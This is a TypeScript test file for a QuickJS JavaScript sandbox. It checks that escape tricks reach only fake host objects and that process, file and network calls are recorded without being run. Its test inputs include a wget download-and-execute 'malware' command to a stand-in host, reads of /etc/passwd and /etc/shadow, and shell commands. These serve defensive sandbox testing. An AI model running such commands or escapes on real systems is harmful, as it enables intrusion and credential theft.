import { existsSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Sandbox } from './sandbox.js'

const sandbox = new Sandbox()
afterAll(() => sandbox.close())

const value = async (code: string, globals?: Record<string, unknown>) => {
  const outcome = await sandbox.evaluate(code, globals ? { globals } : {})
  if (!outcome.ok) throw new Error(`${outcome.error.name}: ${outcome.error.message}`)
  return outcome.value
}

describe('Sandbox escapes reach only QuickJS objects', () => {
  it('gives the fake process through constructor.constructor', async () => {
    expect(await value('const p = this.constructor.constructor("return process")(); [p.pid, p.env]')).toEqual(
      [1, {}],
    )
  })

  it('gives the fake process through error objects', async () => {
    const code = 'try { null.x } catch (e) { e.constructor.constructor("return process.env")() }'
    expect(await value(code)).toEqual({})
  })

  it('gives only VM prototypes to values passed in', async () => {
    const code =
      '[Object.getPrototypeOf(doc) === Object.prototype, doc.constructor.constructor("return typeof Buffer")()]'
    expect(await value(code, { doc: { a: 1 } })).toEqual([true, 'undefined'])
  })

  it('offers no host timers, buffers or module system', async () => {
    const code = '[typeof setTimeout, typeof Buffer, typeof __filename, typeof record, typeof WebAssembly]'
    expect(await value(code)).toEqual(['undefined', 'undefined', 'undefined', 'undefined', 'undefined'])
  })
})

describe('Sandbox fake host objects', () => {
  it('records a command line run through global.process.mainModule.require', async () => {
    const command = 'wget -O malware https://example.test/x && chmod +x malware && ./malware'
    const outcome = await sandbox.evaluate(
      `global.process.mainModule.require('child_process').exec('${command}')`,
    )
    expect(outcome.ok).toBe(true)
    expect(outcome.attempts).toEqual([
      { api: 'require', detail: 'child_process' },
      { api: 'child_process.exec', detail: command },
    ])
  })

  it('records spawn, execFile and execSync with their arguments', async () => {
    const code = `const cp = require('node:child_process')
      cp.spawn('sh', ['-c', 'id']); cp.execFile('/bin/ls', ['-la', '/']); [cp.execSync('whoami')]`
    const outcome = await sandbox.evaluate(code)
    expect(outcome).toMatchObject({ ok: true, value: [''] })
    expect(outcome.attempts.slice(1)).toEqual([
      { api: 'child_process.spawn', detail: 'sh -c id' },
      { api: 'child_process.execFile', detail: '/bin/ls -la /' },
      { api: 'child_process.execSync', detail: 'whoami' },
    ])
  })

  it('answers file reads with ENOENT and never touches the real disk', async () => {
    const code = `const fs = require('fs'); let code
      try { fs.readFileSync('/etc/passwd') } catch (e) { code = e.code }
      fs.writeFileSync('/tmp/sandbox-pwned', 'x'); [code, fs.existsSync('/etc/passwd'), fs.readdirSync('/')]`
    const outcome = await sandbox.evaluate(code)
    expect(outcome).toMatchObject({ ok: true, value: ['ENOENT', false, []] })
    expect(outcome.attempts).toContainEqual({ api: 'fs.readFileSync', detail: '/etc/passwd' })
    expect(outcome.attempts).toContainEqual({ api: 'fs.writeFileSync', detail: '/tmp/sandbox-pwned x' })
    expect(existsSync('/tmp/sandbox-pwned')).toBe(false)
  })

  it('rejects the promise API of fs too', async () => {
    const code = "require('fs/promises').readFile('/etc/shadow').then(() => 'read', (e) => e.code)"
    const outcome = await sandbox.evaluate(code)
    expect(outcome).toMatchObject({ ok: true, value: 'ENOENT' })
    expect(outcome.attempts).toContainEqual({ api: 'fs.promises.readFile', detail: '/etc/shadow' })
  })

  it('records process.exit, then throws', async () => {
    const outcome = await sandbox.evaluate('process.exit(1)')
    expect(outcome).toMatchObject({ ok: false, error: { message: 'process.exit() is not permitted' } })
    expect(outcome.attempts).toEqual([{ api: 'process.exit', detail: '1' }])
  })

  it('says a module it does not fake cannot be found', async () => {
    const outcome = await sandbox.evaluate("try { require('vm') } catch (e) { e.code }")
    expect(outcome).toMatchObject({ ok: true, value: 'MODULE_NOT_FOUND' })
    expect(outcome.attempts).toEqual([{ api: 'require', detail: 'vm' }])
  })

  it('keeps at most 100 attempts', async () => {
    const outcome = await sandbox.evaluate("for (let i = 0; i < 500; i++) require('fs').existsSync('/f' + i)")
    expect(outcome.attempts).toHaveLength(100)
  })
})

describe('Sandbox network fakes', () => {
  let server: Server
  let requests = 0
  let url: string
  beforeAll(async () => {
    server = createServer((_request, response) => {
      requests++
      response.end('real')
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  })
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())))

  it('records http, https, net and fetch without sending anything', async () => {
    const port = new URL(url).port
    const code = `require('http').get('${url}'); require('https').request('${url}').end()
      require('net').connect(${port}, '127.0.0.1'); fetch('${url}').catch((e) => e.message)`
    const outcome = await sandbox.evaluate(code)
    expect(outcome).toMatchObject({ ok: true, value: 'fetch failed' })
    expect(outcome.attempts.filter((attempt) => attempt.api !== 'require')).toEqual([
      { api: 'http.get', detail: url },
      { api: 'https.request', detail: url },
      { api: 'net.connect', detail: `${port} 127.0.0.1` },
      { api: 'fetch', detail: url },
    ])
    expect(requests).toBe(0)
  })
})
